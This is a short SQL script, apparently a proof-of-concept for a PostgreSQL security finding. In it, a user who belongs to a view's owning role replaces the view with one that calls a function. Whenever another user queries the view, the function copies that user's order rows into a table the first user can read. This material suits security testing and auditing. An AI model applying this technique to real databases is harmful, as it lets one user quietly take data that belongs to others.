-- finding: anothers-code helpers.recent
CREATE ROLE writers; GRANT writers TO "alice@example.com";
CREATE SCHEMA helpers AUTHORIZATION writers; GRANT USAGE ON SCHEMA helpers TO PUBLIC;
GRANT USAGE ON SCHEMA shop TO writers; GRANT SELECT ON shop.orders TO writers;
CREATE VIEW helpers.recent AS SELECT item, owner FROM shop.orders;
ALTER VIEW helpers.recent OWNER TO writers;
GRANT SELECT ON helpers.recent TO order_users;
-- first as alice@example.com
DROP TABLE IF EXISTS helpers.taken CASCADE;
CREATE TABLE helpers.taken (item text); GRANT INSERT ON helpers.taken TO PUBLIC;
CREATE OR REPLACE FUNCTION helpers.take() RETURNS text LANGUAGE sql
  AS $$ INSERT INTO helpers.taken SELECT item FROM shop.orders; SELECT '' $$;
CREATE OR REPLACE VIEW helpers.recent AS SELECT item, owner || helpers.take() AS owner FROM shop.orders;
-- first as bob@example.com
SELECT * FROM helpers.recent;
-- leak as alice@example.com
SELECT item FROM helpers.taken WHERE item = 'secret';
